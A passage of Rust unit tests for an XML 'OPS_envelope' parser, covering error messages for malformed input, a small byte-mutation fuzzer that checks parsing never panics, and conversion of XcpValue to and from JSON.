                "<?xml version='1.0' encoding='ISO-8859-1'?><OPS_envelope>\u{e9}</OPS_envelope>".as_bytes(),
                "unsupported encoding",
            ),
            (b"<OPS_envelope>&amp</OPS_envelope>", "malformed XML"),
        ];
        for (body, want) in cases {
            let message = match parse_envelope(body) {
                Ok(v) => panic!("accepted {:?} as {v:?}", String::from_utf8_lossy(body)),
                Err(e) => e.message,
            };
            assert!(
                message.contains(want),
                "body {:?}\n  message {message:?}\n  wanted {want:?}",
                String::from_utf8_lossy(body)
            );
        }
    }

    #[test]
    fn mutated_inputs_never_panic() {
        // A tiny deterministic fuzzer: flip, drop and duplicate bytes of the
        // seed and check that parsing answers (Ok or Err) every time.
        let seed = SEED_RESPONSE.as_bytes();
        let mut state: u64 = 0x9e37_79b9_7f4a_7c15;
        let mut next = move || {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            state
        };
        for _ in 0..2_000 {
            let mut body = seed.to_vec();
            for _ in 0..(next() % 8 + 1) {
                let len = body.len().max(1) as u64;
                let at = (next() % len) as usize;
                match next() % 4 {
                    0 => {
                        if let Some(b) = body.get_mut(at) {
                            *b = (next() % 256) as u8;
                        }
                    }
                    1 => {
                        if at < body.len() {
                            body.remove(at);
                        }
                    }
                    2 => body.truncate(at),
                    _ => {
                        let byte = *b"<>&;'\"/[!".get((next() % 9) as usize).unwrap_or(&b'<');
                        body.insert(at.min(body.len()), byte);
                    }
                }
            }
            let _ = parse_request(&body);
        }
    }

    #[test]
    fn json_conversion() {
        let value = XcpValue::assoc([
            ("a", XcpValue::from("1")),
            (
                "b",
                XcpValue::array([XcpValue::from(true), XcpValue::from(false)]),
            ),
        ]);
        let json = value.to_json();
        assert_eq!(json, serde_json::json!({"a": "1", "b": ["1", "0"]}));
        assert_eq!(XcpValue::from_json(&json), value);
        assert_eq!(
            XcpValue::from_json(&serde_json::json!({"n": 5, "z": null})),
            XcpValue::assoc([("n", XcpValue::from("5")), ("z", XcpValue::from(""))])
        );
    }
}
